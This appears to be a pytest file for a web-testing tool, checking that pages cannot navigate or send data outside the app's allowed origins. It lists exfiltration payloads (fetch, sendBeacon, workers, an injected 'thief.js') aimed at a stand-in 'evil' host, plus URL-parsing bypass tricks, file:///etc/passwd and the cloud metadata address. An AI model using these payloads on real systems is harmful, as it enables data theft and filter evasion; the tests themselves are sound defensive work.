"""What leads out of the app is neither opened nor sent (rows I11 to I15)."""

import asyncio
from collections.abc import Iterator

import pytest

from surefoot.state.errors import ActionError
from surefoot.state.values.action import Open, Tap, Target
from surefoot.state.values.app import WebApp
from surefoot.state.values.screen import Event, Screen
from surefoot.tools.devices.web.device import WebDevice
from surefoot.tools.devices.web.origins import Origins
from tests.support.site import Site, running_site

pytestmark = pytest.mark.asyncio(loop_scope="session")

LED_AWAY = {
    "a link": "<a href='{evil}/?d=typed'>Go</a>",
    "a new tab": "<a target='_blank' href='{evil}/tab'>Go</a>",
    "a window": "<button onclick=\"window.open('{evil}/window')\">Go</button>",
    "a script": "<button onclick=\"location.href='{evil}/script'\">Go</button>",
    "a form": "<form method='post' action='{evil}/form'><input name='q'><button>Go</button></form>",
    "a base": "<base href='{evil}/'><a href='based'>Go</a>",
    "a redirect": "<a href='{app}/redirect?to={evil}/redirected'>Go</a>",
    "two redirects": "<a href='{app}/redirect?to={app}/redirect%3Fto={evil}/twice'>Go</a>",
    "a download": "<a download href='{evil}/file.txt'>Go</a>",
    "a user name": "<a href='http://{host}@{evil_host}/user'>Go</a>",
    "a backslash": "<a href='http:\\\\{evil_host}\\back'>Go</a>",
    "a new line in it": "<a href='http:&#10;//{evil_host}/line'>Go</a>",
    "another spelling of the host": "<a href='http://2130706433:{evil_port}/number'>Go</a>",
    "a hexadecimal host": "<a href='http://0x7f.1:{evil_port}/hex'>Go</a>",
    "an octal host": "<a href='http://0177.0.0.1:{evil_port}/octal'>Go</a>",
    "a host in per cent": "<a href='http://%31%32%37.0.0.1:{evil_port}/percent'>Go</a>",
    "full stops of another script": "<a href='http://127。0。0。1:{evil_port}/stops'>Go</a>",
    "wide digits": "<a href='http://１２７.0.0.1:{evil_port}/wide'>Go</a>",
    "a mapped address": "<a href='http://[::ffff:127.0.0.1]:{evil_port}/mapped'>Go</a>",
    "a name of this machine": "<a href='http://localhost:{evil_port}/localhost'>Go</a>",
    "a name with a dot": "<a href='http://localhost.:{evil_port}/dot'>Go</a>",
}
SENT_AWAY = {
    "a refresh": "<meta http-equiv='refresh' content='0;url={evil}/refresh'>",
    "fetch": "<script>fetch('{evil}/?d=typed', {{mode: 'no-cors'}}).catch(() => 0)</script>",
    "a beacon": "<script>navigator.sendBeacon('{evil}/beacon', 'typed')</script>",
    "a picture": "<img src='{evil}/picture?d=typed'>",
    "a redirected picture": "<img src='{app}/redirect?to={evil}/redirected'>",
    "a style": "<link rel='stylesheet' href='{evil}/style.css'>",
    "code": "<script src='{evil}/code.js'></script>",
    "a frame": "<iframe src='{evil}/frame'></iframe>",
    "a redirected frame": "<iframe src='{app}/redirect?to={evil}/frame'></iframe>",
    "an object": "<object data='{evil}/object'></object>",
    "a prefetch": "<link rel='prefetch' href='{evil}/prefetch'>",
    "a preconnect": "<link rel='preconnect' href='{evil}'><img src='{evil}/picture'>",
    "a web socket": "<script>new WebSocket('ws://{evil_host}/socket')</script>",
    "server events": "<script>new EventSource('{evil}/events')</script>",
    "a worker": "<script>new Worker(URL.createObjectURL(new Blob(["
    "`fetch('{evil}/worker', {{mode: 'no-cors'}})`])))</script>",
    "a shared worker": "<script>new SharedWorker(URL.createObjectURL(new Blob(["
    "`fetch('{evil}/shared', {{mode: 'no-cors'}})`])))</script>",
    "a service worker": "<script>navigator.serviceWorker.register('/{name}.js')</script>",
}


@pytest.fixture(scope="module")
def evil() -> Iterator[Site]:
    with running_site() as site:
        yield site


def written(body: str, site: Site, evil: Site, name: str = "") -> str:
    host, evil_host = site.address.split("//")[1], evil.address.split("//")[1]
    return body.format(
        app=site.address,
        evil=evil.address,
        host=host,
        evil_host=evil_host,
        evil_port=evil_host.split(":")[1],
        name=name,
    )


def refused(screen: Screen) -> list[Event]:
    return [event for event in screen.events if event.kind == "refused"]


def headings(screen: Screen) -> list[str]:
    return [widget.name for widget in screen.widgets if widget.role == "heading"]


async def go(device: WebDevice) -> None:
    widgets = (await device.observe()).widgets
    go = next(widget for widget in widgets if widget.name == "Go")
    await device.perform(Tap(target=Target(widget=go.id)))


@pytest.mark.parametrize("what", LED_AWAY)
async def test_a_page_stays_where_it_is_when_it_is_led_away(what, open_page, site, evil):
    device = await open_page(f"<h1>Mine</h1>{written(LED_AWAY[what], site, evil)}")
    evil.asked.clear()
    await go(device)
    screen = await device.observe()
    assert evil.asked == []
    assert headings(screen) == ["Mine"]
    assert screen.location.startswith(site.address)
    assert any(event.detail.endswith("document") for event in refused(screen))
    assert "app.origins" in refused(screen)[0].text


@pytest.mark.parametrize("what", SENT_AWAY)
async def test_a_page_sends_nothing_away(what, open_page, site, evil):
    site.pages["/thief.js"] = f"fetch('{evil.address}/service', {{mode: 'no-cors'}})"
    evil.asked.clear()
    device = await open_page(f"<h1>Mine</h1>{written(SENT_AWAY[what], site, evil, 'thief')}")
    await asyncio.sleep(0.4)
    assert evil.asked == []
    screen = await device.observe()
    assert headings(screen) == ["Mine"]
    assert refused(screen) or "worker" in what


@pytest.mark.parametrize(
    "address",
    ["data:text/html,<h1>Fake</h1>", "file:///etc/passwd", "chrome://version", "view-source:/",
     "ftp://127.0.0.1/x", "intent:#Intent;end"],
)  # fmt: skip
async def test_a_link_without_a_place_in_the_web_leads_nowhere(address, open_page, site):
    device = await open_page(f"<h1>Mine</h1><a href='{address}'>Go</a>")
    await go(device)
    screen = await device.observe()
    assert headings(screen) == ["Mine"]
    assert screen.location.startswith(site.address)


@pytest.mark.parametrize("how", ["location.href = made", "window.open(made)"])
async def test_a_page_made_by_a_script_is_left_again(how, open_page, site):
    body = f"""<h1>Mine</h1><button onclick="go()">Go</button><script>function go() {{
        const made = URL.createObjectURL(new Blob(["<h1>Fake</h1>"], {{type: "text/html"}}));
        {how};
    }}</script>"""
    device = await open_page(body)
    await go(device)
    await asyncio.sleep(0.3)
    screen = await device.observe()
    assert headings(screen) == ["Mine"]
    assert [event.detail for event in refused(screen)] == ["GET document"]


ELSEWHERE = ("{app}@{evil_host}/", "http://{host}.evil.test/", "http://{evil_host}\\@{host}/",
    "http://{host}\t@{evil_host}/", "//{evil_host}/", "\\\\{evil_host}", "javascript:alert(1)",
    "http://127.1:{evil_port}/", "view-source:{app}", "http://169.254.169.254/")  # fmt: skip


async def test_a_case_opens_addresses_of_its_app_only(open_page, site, evil, subtests):
    device = await open_page("<h1>Mine</h1>")
    evil.asked.clear()
    for address in ELSEWHERE:
        with subtests.test(address), pytest.raises(ActionError):
            await device.perform(Open(address=written(address, site, evil)))
    assert evil.asked == []


async def test_a_redirect_of_an_opened_address_is_told(open_page, site, evil):
    with pytest.raises(ActionError, match=f"leads to {evil.address}/x, outside of the app; add"):
        await open_page(address=f"{site.address}/redirect?to={evil.address}/x")


async def test_a_named_origin_is_open_to_the_app(open_page, site, evil):
    device = await open_page("<h1>Mine</h1>")
    other = evil.page("other", "<h1>Theirs</h1>")
    await device.close()
    both = await open_page(f"<a href='{other}'>Go</a>", origins=(evil.address,))
    await go(both)
    screen = await both.observe()
    assert screen.location == other
    assert refused(screen) == []


async def test_an_app_asks_its_own_server_as_ever(open_page, site):
    site.pages["/part"] = "part"
    device = await open_page(
        "<h1>Mine</h1><p></p><script>fetch('/part').then(r => r.text()).then(t => {"
        "document.querySelector('p').textContent = t})</script>"
        "<iframe src='/part'></iframe><iframe srcdoc='<b>inside</b>'></iframe>"
    )
    screen = await device.observe()
    assert refused(screen) == []
    shown = " ".join(f"{widget.name} {widget.text}" for widget in screen.widgets)
    assert shown.count("part") >= 2
    assert "inside" in shown


async def test_http_goes_for_https_of_the_same_host() -> None:
    origins = Origins.of(WebApp(url="http://shop.example/start", origins=("https://id.example",)))
    allowed = ["http://SHOP.example:80/x", "https://shop.example", "wss://id.example/s"]
    assert all(origins.allows(one) for one in allowed)
    others = ["https://shop.example:8443", "http://id.example", "http://shop.example.", "//x", "x"]
    assert not any(origins.allows(one) for one in others)
    assert origins.proxy_bypass() == [
        "<-loopback>", "shop.example:80", "id.example:443", "shop.example:443"
    ]  # fmt: skip
